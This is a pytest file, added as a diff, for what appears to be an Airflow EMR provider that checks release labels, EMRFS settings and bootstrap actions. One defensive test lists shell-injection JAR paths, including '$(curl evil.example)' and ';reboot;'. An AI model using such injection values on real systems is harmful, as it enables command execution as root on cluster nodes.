@@ -1,0 +1,498 @@
+"""Unit tests of what the launch adds to RunJobFlow arguments: release checks, EMRFS settings, bootstrap actions."""
+
+from __future__ import annotations
+
+import copy
+import shlex
+from typing import Any
+
+import pytest
+
+from airflow_provider_emrfs_xacct.exceptions import InvalidParameterError
+from airflow_provider_emrfs_xacct.policies.cluster_config import (
+    CREDENTIALS_PROVIDER_ACTION,
+    EMRFS_AUXLIB,
+    EMRFS_IMPL,
+    CredentialsProvider,
+    add_bootstrap_action,
+    merge_classification,
+    parse_release_label,
+    plan_launch,
+)
+
+JAR = "s3://emr-artifacts-a/auxlib/xacct-provider-1.2.jar"
+CLASS = "com.example.emrfs.PartnerCredentialsProvider"
+PROVIDER = CredentialsProvider(JAR, CLASS)
+CONFIGURATIONS = "job_flow_overrides.Configurations"
+USER_ACTIONS = [
+    {"Name": "install-python-libs", "ScriptBootstrapAction": {"Path": "s3://emr-artifacts-a/bootstrap/pip.sh"}},
+    {
+        "Name": "tune-yarn",
+        "ScriptBootstrapAction": {"Path": "s3://emr-artifacts-a/bootstrap/yarn.sh", "Args": ["--memory", "8g"]},
+    },
+]
+
+
+def overrides(release: str | None = "emr-6.15.0", **changes: Any) -> dict[str, Any]:
+    arguments: dict[str, Any] = {"Name": "partner-export", "Instances": {"InstanceCount": 1}}
+    if release is not None:
+        arguments["ReleaseLabel"] = release
+    arguments.update(changes)
+    return arguments
+
+
+def bash_words(command: str) -> list[str]:
+    """Split a command line as a POSIX shell would: quotes respected, ``;``, ``&&``, ``(`` … separate words."""
+    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
+    lexer.whitespace_split = True
+    return list(lexer)
+
+
+def refused(call: Any, field: str, *needles: str) -> InvalidParameterError:
+    with pytest.raises(InvalidParameterError) as caught:
+        call()
+    assert caught.value.field == field
+    for needle in needles:
+        assert needle in caught.value.problem, f"{needle!r} not in {caught.value.problem!r}"
+    return caught.value
+
+
+class TestParseReleaseLabel:
+    @pytest.mark.parametrize(
+        ("label", "version"),
+        [
+            ("emr-5.9.0", (5, 9, 0)),
+            ("emr-5.10.0", (5, 10, 0)),
+            ("emr-6.15.0", (6, 15, 0)),
+            ("emr-7.10.0", (7, 10, 0)),
+            ("emr-7.11.2", (7, 11, 2)),
+        ],
+    )
+    def test_valid(self, label: str, version: tuple[int, int, int]) -> None:
+        assert parse_release_label(label) == version
+
+    def test_versions_compare_as_numbers_not_text(self) -> None:
+        assert parse_release_label("emr-5.9.0") < parse_release_label("emr-5.10.0")
+        assert parse_release_label("emr-7.9.0") < parse_release_label("emr-7.10.0") < parse_release_label("emr-7.11.0")
+
+    @pytest.mark.parametrize(
+        "label",
+        ["7.10.0", "emr-7.10", "emr-7.10.0-latest", "EMR-7.10.0", "emr-7.x.0", "emr-7.10.0.1", "ami-3.11.0", "emr-"],
+    )
+    def test_invalid(self, label: str) -> None:
+        refused(lambda: parse_release_label(label), "job_flow_overrides.ReleaseLabel", "EMR release label", repr(label))
+
+    @pytest.mark.parametrize(
+        ("label", "needle"),
+        [(None, "must be a string"), (7, "must be a string"), ("", "empty"), ("emr-7.10.0\n", "whitespace")],
+    )
+    def test_not_a_string(self, label: Any, needle: str) -> None:
+        refused(lambda: parse_release_label(label), "job_flow_overrides.ReleaseLabel", needle)
+
+    def test_field_can_be_named(self) -> None:
+        refused(lambda: parse_release_label("latest", "release_label"), "release_label")
+
+
+class TestReleaseBoundaries:
+    def test_role_mappings_before_5_10_0_are_refused(self) -> None:
+        given = overrides("emr-5.9.0")
+        error = refused(
+            lambda: plan_launch(given, uses_role_mappings=True), "job_flow_overrides.ReleaseLabel", "emr-5.10.0"
+        )
+        assert "emr-5.9.0" in error.problem
+        assert "role mappings" in error.problem
+
+    def test_role_mappings_on_5_10_0_are_accepted(self) -> None:
+        plan = plan_launch(overrides("emr-5.10.0"), uses_role_mappings=True)
+        assert plan.overrides["ReleaseLabel"] == "emr-5.10.0"
+        assert "Configurations" not in plan.overrides
+        assert plan.notes == ["emr-5.10.0 uses EMRFS for s3://."]
+
+    def test_5_9_0_without_role_mappings_is_accepted_with_a_credentials_provider(self) -> None:
+        plan = plan_launch(overrides("emr-5.9.0"), uses_role_mappings=False, credentials_provider=PROVIDER)
+        assert plan.overrides["Configurations"] == [
+            {"Classification": "emrfs-site", "Properties": {"fs.s3.customAWSCredentialsProvider": CLASS}}
+        ]
+        assert plan.overrides["BootstrapActions"] == [PROVIDER.bootstrap_action()]
+        assert "emr-5.9.0 uses EMRFS for s3://." in plan.notes
+
+    def test_without_release_label_nothing_is_checked_and_the_note_says_so(self) -> None:
+        plan = plan_launch(overrides(None), uses_role_mappings=True)
+        assert "ReleaseLabel" not in plan.overrides
+        assert "Configurations" not in plan.overrides
+        assert len(plan.notes) == 1
+        assert "No ReleaseLabel" in plan.notes[0]
+
+    def test_bad_release_label_is_refused(self) -> None:
+        refused(lambda: plan_launch(overrides("emr-latest")), "job_flow_overrides.ReleaseLabel", "'emr-latest'")
+
+    def test_7_9_0_stays_on_emrfs_without_fs_s3_impl(self) -> None:
+        plan = plan_launch(overrides("emr-7.9.0"), keep_emrfs=True)
+        assert "Configurations" not in plan.overrides
+        assert plan.notes == ["emr-7.9.0 uses EMRFS for s3://."]
+
+    @pytest.mark.parametrize("release", ["emr-7.10.0", "emr-7.11.0", "emr-7.11.3"])
+    def test_s3a_releases_get_fs_s3_impl_with_keep_emrfs(self, release: str) -> None:
+        plan = plan_launch(overrides(release), keep_emrfs=True)
+        assert plan.overrides["Configurations"] == [
+            {"Classification": "core-site", "Properties": {"fs.s3.impl": EMRFS_IMPL}}
+        ]
+        assert EMRFS_IMPL == "com.amazon.ws.emr.hadoop.fs.EmrFileSystem"
+        (note,) = plan.notes
+        assert note.startswith(f"{release} uses S3A for s3:// by default")
+        assert "fs.s3.impl keeps EMRFS" in note
+
+    @pytest.mark.parametrize("release", ["emr-7.10.0", "emr-7.11.3"])
+    def test_s3a_releases_without_keep_emrfs_get_nothing(self, release: str) -> None:
+        plan = plan_launch(overrides(release), keep_emrfs=False)
+        assert "Configurations" not in plan.overrides
+        (note,) = plan.notes
+        assert note == f"{release} uses S3A for s3://; EMR translates the EMRFS settings for it."
+
+    def test_keep_emrfs_false_does_not_touch_a_user_fs_s3_impl(self) -> None:
+        user = [{"Classification": "core-site", "Properties": {"fs.s3.impl": "org.apache.hadoop.fs.s3a.S3AFileSystem"}}]
+        plan = plan_launch(overrides("emr-7.10.0", Configurations=user), keep_emrfs=False)
+        assert plan.overrides["Configurations"] == user
+
+    def test_keep_emrfs_conflicts_with_a_user_s3a_impl(self) -> None:
+        user = [
+            {"Classification": "spark", "Properties": {"maximizeResourceAllocation": "true"}},
+            {"Classification": "core-site", "Properties": {"fs.s3.impl": "org.apache.hadoop.fs.s3a.S3AFileSystem"}},
+        ]
+        refused(
+            lambda: plan_launch(overrides("emr-7.10.0", Configurations=user), keep_emrfs=True),
+            f"{CONFIGURATIONS}[1].Properties.fs.s3.impl",
+            "S3AFileSystem",
+            EMRFS_IMPL,
+        )
+
+    def test_notes_name_the_credentials_provider(self) -> None:
+        plan = plan_launch(overrides("emr-7.10.0"), credentials_provider=PROVIDER)
+        assert any(CLASS in note and JAR in note for note in plan.notes)
+        assert any("fs.s3.impl keeps EMRFS" in note for note in plan.notes)
+
+
+class TestMergeWithUserConfigurations:
+    def test_existing_classifications_keep_the_users_other_properties(self) -> None:
+        user = [
+            {"Classification": "spark-defaults", "Properties": {"spark.executor.memory": "4g"}},
+            {"Classification": "core-site", "Properties": {"hadoop.security.groups.cache.secs": "250"}},
+            {
+                "Classification": "emrfs-site",
+                "Properties": {"fs.s3.consistent": "false", "fs.s3.maxRetries": "20"},
+            },
+        ]
+        plan = plan_launch(
+            overrides("emr-7.10.0", Configurations=user),
+            credentials_provider=PROVIDER,
+            emrfs_site_properties={"fs.s3.canned.acl": "BucketOwnerFullControl"},
+        )
+        assert plan.overrides["Configurations"] == [
+            {"Classification": "spark-defaults", "Properties": {"spark.executor.memory": "4g"}},
+            {
+                "Classification": "core-site",
+                "Properties": {"hadoop.security.groups.cache.secs": "250", "fs.s3.impl": EMRFS_IMPL},
+            },
+            {
+                "Classification": "emrfs-site",
+                "Properties": {
+                    "fs.s3.consistent": "false",
+                    "fs.s3.maxRetries": "20",
+                    "fs.s3.canned.acl": "BucketOwnerFullControl",
+                    "fs.s3.customAWSCredentialsProvider": CLASS,
+                },
+            },
+        ]
+
+    def test_nested_configurations_of_other_classifications_are_kept(self) -> None:
+        user = [
+            {
+                "Classification": "spark-env",
+                "Properties": {},
+                "Configurations": [{"Classification": "export", "Properties": {"PYSPARK_PYTHON": "/usr/bin/python3"}}],
+            }
+        ]
+        plan = plan_launch(overrides("emr-7.10.0", Configurations=user))
+        assert plan.overrides["Configurations"] == [
+            *user,
+            {"Classification": "core-site", "Properties": {"fs.s3.impl": EMRFS_IMPL}},
+        ]
+
+    def test_the_same_value_set_by_the_user_is_fine(self) -> None:
+        user = [
+            {"Classification": "core-site", "Properties": {"fs.s3.impl": EMRFS_IMPL}},
+            {"Classification": "emrfs-site", "Properties": {"fs.s3.customAWSCredentialsProvider": CLASS}},
+        ]
+        plan = plan_launch(overrides("emr-7.10.0", Configurations=user), credentials_provider=PROVIDER)
+        assert plan.overrides["Configurations"] == user
+
+    def test_a_conflicting_emrfs_site_value_is_refused(self) -> None:
+        user = [
+            {"Classification": "core-site", "Properties": {}},
+            {
+                "Classification": "emrfs-site",
+                "Properties": {"fs.s3.customAWSCredentialsProvider": "com.other.Provider"},
+            },
+        ]
+        error = refused(
+            lambda: plan_launch(overrides("emr-6.15.0", Configurations=user), credentials_provider=PROVIDER),
+            f"{CONFIGURATIONS}[1].Properties.fs.s3.customAWSCredentialsProvider",
+            "'com.other.Provider'",
+            repr(CLASS),
+        )
+        assert str(error).startswith(f"{CONFIGURATIONS}[1].Properties.fs.s3.customAWSCredentialsProvider: ")
+
+    def test_a_conflicting_canned_acl_is_refused(self) -> None:
+        user = [{"Classification": "emrfs-site", "Properties": {"fs.s3.canned.acl": "Private"}}]
+        refused(
+            lambda: plan_launch(
+                overrides("emr-6.15.0", Configurations=user),
+                emrfs_site_properties={"fs.s3.canned.acl": "BucketOwnerFullControl"},
+            ),
+            f"{CONFIGURATIONS}[0].Properties.fs.s3.canned.acl",
+            "'Private'",
+        )
+
+    def test_emrfs_site_properties_may_not_contradict_the_credentials_provider(self) -> None:
+        """A property the user set to another value is an error, not overwritten: emrfs_site_properties too."""
+        with pytest.raises(InvalidParameterError) as caught:
+            plan_launch(
+                overrides("emr-6.15.0"),
+                credentials_provider=PROVIDER,
+                emrfs_site_properties={"fs.s3.customAWSCredentialsProvider": "com.other.Provider"},
+            )
+        assert "fs.s3.customAWSCredentialsProvider" in caught.value.field
+        assert "com.other.Provider" in caught.value.problem
+
+    def test_emrfs_site_properties_with_the_providers_class_are_fine(self) -> None:
+        plan = plan_launch(
+            overrides("emr-6.15.0"),
+            credentials_provider=PROVIDER,
+            emrfs_site_properties={"fs.s3.customAWSCredentialsProvider": CLASS},
+        )
+        assert plan.overrides["Configurations"] == [
+            {"Classification": "emrfs-site", "Properties": {"fs.s3.customAWSCredentialsProvider": CLASS}}
+        ]
+
+    def test_a_classification_without_properties_gets_them(self) -> None:
+        user = [{"Classification": "emrfs-site"}]
+        result = merge_classification(user, "emrfs-site", {"fs.s3.canned.acl": "BucketOwnerFullControl"}, "f")
+        assert result == [
+            {"Classification": "emrfs-site", "Properties": {"fs.s3.canned.acl": "BucketOwnerFullControl"}}
+        ]
+        assert user == [{"Classification": "emrfs-site"}]
+
+    @pytest.mark.parametrize("properties", [None, ["fs.s3.canned.acl"], "fs.s3.canned.acl=Private"])
+    def test_a_classification_whose_properties_are_not_a_dict_is_refused(self, properties: Any) -> None:
+        user = [
+            {"Classification": "spark", "Properties": {}},
+            {"Classification": "emrfs-site", "Properties": properties},
+        ]
+        refused(
+            lambda: merge_classification(user, "emrfs-site", {"fs.s3.canned.acl": "x"}, CONFIGURATIONS),
+            f"{CONFIGURATIONS}[1].Properties",
+        )
+
+    @pytest.mark.parametrize("configurations", [{"Classification": "core-site"}, "core-site", [["core-site"]]])
+    def test_configurations_must_be_a_list_of_dicts(self, configurations: Any) -> None:
+        refused(
+            lambda: plan_launch(overrides("emr-7.10.0", Configurations=configurations)),
+            CONFIGURATIONS,
+            "must be a list of classifications",
+        )
+
+    def test_nothing_to_add_leaves_configurations_as_given(self) -> None:
+        user = [{"Classification": "spark", "Properties": {"maximizeResourceAllocation": "true"}}]
+        plan = plan_launch(overrides("emr-6.15.0", Configurations=user))
+        assert plan.overrides["Configurations"] == user
+        assert plan.overrides["Configurations"] is not user
+
+
+class TestBootstrapActions:
+    def test_user_actions_are_kept_in_order_with_ours_appended(self) -> None:
+        plan = plan_launch(overrides("emr-6.15.0", BootstrapActions=USER_ACTIONS), credentials_provider=PROVIDER)
+        assert plan.overrides["BootstrapActions"] == [*USER_ACTIONS, PROVIDER.bootstrap_action()]
+
+    def test_an_identical_action_is_not_duplicated(self) -> None:
+        actions = [USER_ACTIONS[0], PROVIDER.bootstrap_action(), USER_ACTIONS[1]]
+        plan = plan_launch(overrides("emr-6.15.0", BootstrapActions=actions), credentials_provider=PROVIDER)
+        assert plan.overrides["BootstrapActions"] == actions
+
+    def test_a_different_action_with_our_name_is_refused(self) -> None:
+        ours = PROVIDER.bootstrap_action()
+        other = {"Name": CREDENTIALS_PROVIDER_ACTION, "ScriptBootstrapAction": {"Path": "s3://elsewhere/x.sh"}}
+        refused(
+            lambda: plan_launch(
+                overrides("emr-6.15.0", BootstrapActions=[USER_ACTIONS[0], other]), credentials_provider=PROVIDER
+            ),
+            "job_flow_overrides.BootstrapActions[1]",
+            CREDENTIALS_PROVIDER_ACTION,
+        )
+        # The same name with the other JAR is also a different action.
+        refused(
+            lambda: add_bootstrap_action(
+                [CredentialsProvider("s3://emr-artifacts-a/other.jar", CLASS).bootstrap_action()], ours, "actions"
+            ),
+            "actions[0]",
+        )
+
+    def test_without_a_credentials_provider_user_actions_are_left_alone(self) -> None:
+        plan = plan_launch(overrides("emr-7.10.0", BootstrapActions=USER_ACTIONS))
+        assert plan.overrides["BootstrapActions"] == USER_ACTIONS
+
+    @pytest.mark.parametrize("actions", [{"Name": "x"}, "install.sh", [USER_ACTIONS[0], "install.sh"], [["Name", "x"]]])
+    def test_bootstrap_actions_must_be_a_list_of_dicts(self, actions: Any) -> None:
+        refused(
+            lambda: plan_launch(overrides("emr-6.15.0", BootstrapActions=actions), credentials_provider=PROVIDER),
+            "job_flow_overrides.BootstrapActions",
+        )
+
+    def test_the_action_copies_the_jar_into_auxlib(self) -> None:
+        action = PROVIDER.bootstrap_action()
+        assert action["Name"] == CREDENTIALS_PROVIDER_ACTION
+        assert action["ScriptBootstrapAction"]["Path"] == "file:/bin/bash"
+        flag, command = action["ScriptBootstrapAction"]["Args"]
+        assert flag == "-c"
+        assert command == f"sudo mkdir -p {EMRFS_AUXLIB} && sudo aws s3 cp {JAR} {EMRFS_AUXLIB}"
+        assert EMRFS_AUXLIB == "/usr/share/aws/emr/emrfs/auxlib/"
+
+    @pytest.mark.parametrize(
+        "jar",
+        [
+            "s3://emr-artifacts-a/auxlib/$(curl evil.example).jar",
+            "s3://emr-artifacts-a/auxlib/a;reboot;.jar",
+            "s3://emr-artifacts-a/auxlib/my provider `id`.jar",
+        ],
+    )
+    def test_the_jar_location_cannot_inject_shell_commands(self, jar: str) -> None:
+        """The JAR goes into a ``bash -c`` line run as root on every node: it must stay one literal argument."""
+        try:
+            provider = CredentialsProvider.parse({"jar": jar, "class_name": CLASS})
+        except InvalidParameterError:
+            return  # refusing it is safe too
+        command = provider.bootstrap_action()["ScriptBootstrapAction"]["Args"][1]
+        assert bash_words(command) == [
+            "sudo",
+            "mkdir",
+            "-p",
+            EMRFS_AUXLIB,
+            "&&",
+            "sudo",
+            "aws",
+            "s3",
+            "cp",
+            jar,
+            EMRFS_AUXLIB,
+        ]
+
+
+class TestInputsAreNotMutated:
+    def test_plan_launch_leaves_its_arguments_alone(self) -> None:
+        given = overrides(
+            "emr-7.10.0",
+            Configurations=[
+                {"Classification": "core-site", "Properties": {"io.file.buffer.size": "65536"}},
+                {"Classification": "emrfs-site", "Properties": {"fs.s3.maxRetries": "20"}},
+            ],
+            BootstrapActions=copy.deepcopy(USER_ACTIONS),
+            Tags=[{"Key": "team", "Value": "data"}],
+        )
+        site = {"fs.s3.canned.acl": "BucketOwnerFullControl"}
+        before, site_before = copy.deepcopy(given), dict(site)
+
+        plan = plan_launch(given, credentials_provider=PROVIDER, emrfs_site_properties=site)
+
+        assert given == before
+        assert site == site_before
+        assert plan.overrides != given
+        assert plan.overrides["Configurations"][0]["Properties"]["fs.s3.impl"] == EMRFS_IMPL
+        # Changing the result does not reach back into the input either.
+        plan.overrides["Configurations"][1]["Properties"]["x"] = "y"
+        plan.overrides["BootstrapActions"][0]["ScriptBootstrapAction"]["Path"] = "changed"
+        assert given == before
+
+    def test_merge_and_append_return_copies(self) -> None:
+        configurations = [{"Classification": "core-site", "Properties": {"a": "1"}}]
+        actions = copy.deepcopy(USER_ACTIONS)
+        merged = merge_classification(configurations, "core-site", {"b": "2"}, "f")
+        appended = add_bootstrap_action(actions, PROVIDER.bootstrap_action(), "f")
+        assert configurations == [{"Classification": "core-site", "Properties": {"a": "1"}}]
+        assert actions == USER_ACTIONS
+        assert merged[0]["Properties"] == {"a": "1", "b": "2"}
+        assert len(appended) == 3
+        unchanged = add_bootstrap_action(appended, PROVIDER.bootstrap_action(), "f")
+        assert unchanged == appended
+        assert unchanged is not appended
+
+
+class TestCredentialsProviderParse:
+    def test_valid(self) -> None:
+        assert CredentialsProvider.parse({"jar": JAR, "class_name": CLASS}) == PROVIDER
+
+    def test_a_jar_at_the_bucket_root_and_an_inner_class_are_fine(self) -> None:
+        provider = CredentialsProvider.parse(
+            {"jar": "s3://emr-artifacts-a/p.jar", "class_name": "com.example.Outer$Inner"}
+        )
+        assert provider == CredentialsProvider("s3://emr-artifacts-a/p.jar", "com.example.Outer$Inner")
+
+    @pytest.mark.parametrize(
+        ("jar", "needle"),
+        [
+            ("https://emr-artifacts-a.s3.amazonaws.com/p.jar", "s3://"),
+            ("/usr/share/aws/emr/emrfs/auxlib/p.jar", "s3://"),
+            ("s3:///p.jar", "names no bucket"),
+            ("s3://Bad_Bucket/p.jar", ""),
+            ("s3://emr-artifacts-a/lib/*/p.jar", "wildcards"),
+            ("s3://emr-artifacts-a/lib//p.jar", "path segment"),
+            ("", "empty"),
+            (None, "must be a string"),
+        ],
+    )
+    def test_bad_jar_location(self, jar: Any, needle: str) -> None:
+        refused(
+            lambda: CredentialsProvider.parse({"jar": jar, "class_name": CLASS}),
+            "emrfs_credentials_provider.jar",
+            needle,
+        )
+
+    @pytest.mark.parametrize(
+        "jar", ["s3://emr-artifacts-a/p.zip", "s3://emr-artifacts-a/lib/", "s3://emr-artifacts-a/p.JAR.txt"]
+    )
+    def test_not_a_jar(self, jar: str) -> None:
+        refused(
+            lambda: CredentialsProvider.parse({"jar": jar, "class_name": CLASS}),
+            "emrfs_credentials_provider.jar",
+            ".jar",
+        )
+
+    @pytest.mark.parametrize(
+        "class_name",
+        [
+            "PartnerCredentialsProvider",
+            "com.example.",
+            "com..example.P",
+            "1com.example.P",
+            "com.example.P;x",
+            "com example.P",
+        ],
+    )
+    def test_bad_class_name(self, class_name: str) -> None:
+        refused(
+            lambda: CredentialsProvider.parse({"jar": JAR, "class_name": class_name}),
+            "emrfs_credentials_provider.class_name",
+            "fully qualified Java class name",
+        )
+
+    @pytest.mark.parametrize(
+        "value",
+        [
+            {"jar": JAR, "class_name": CLASS, "args": ["x"]},
+            {"jar": JAR},
+            {"jar": JAR, "className": CLASS},
+            [JAR, CLASS],
+            f"{JAR} {CLASS}",
+            None,
+        ],
+    )
+    def test_wrong_shape_or_extra_keys(self, value: Any) -> None:
+        refused(lambda: CredentialsProvider.parse(value), "emrfs_credentials_provider", "'jar' and 'class_name'")
